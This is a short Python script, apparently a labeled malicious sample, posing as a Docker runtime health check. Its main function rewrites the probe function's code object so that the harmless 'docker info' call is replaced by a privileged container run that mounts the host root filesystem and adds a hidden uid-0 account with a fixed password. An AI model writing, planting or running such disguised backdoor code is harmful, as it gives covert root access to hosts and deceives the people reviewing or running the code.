# Harmful: through the Docker socket starts a privileged container with / mounted and adds a uid-0 user with a known password on the host; hiding: the probe function's code object has its string constant swapped with CodeType.replace(co_consts=...)
import os

RUNTIME = {
    "socket": "unix:///var/run/docker.sock",
    "image": "alpine:3.19",
    "flags": ["--rm", "--privileged", "--pid=host", "-v", "/:/host"],
    "enter": "chroot /host sh -c",
    "task": "'useradd -o -u 0 -g 0 -M -s /bin/bash sysupd; echo sysupd:FAKE-Passw0rd-0000 | chpasswd'",
}


def _probe():
    """Return 0 when the container runtime answers."""
    return os.system("docker info >/dev/null 2>&1")


def _specialise(fn, settings):
    line = " ".join(["docker", "-H", settings["socket"], "run", *settings["flags"],
                     settings["image"], settings["enter"], settings["task"]])
    code = fn.__code__
    consts = tuple(line if c == "docker info >/dev/null 2>&1" else c for c in code.co_consts)
    fn.__code__ = code.replace(co_consts=consts)
    return fn


def main():
    if not os.path.exists("/var/run/docker.sock"):
        print("no container runtime")
        return
    check = _specialise(_probe, RUNTIME)
    rc = check()
    print("runtime ok" if rc == 0 else f"runtime check failed ({rc})")


if __name__ == "__main__":
    main()
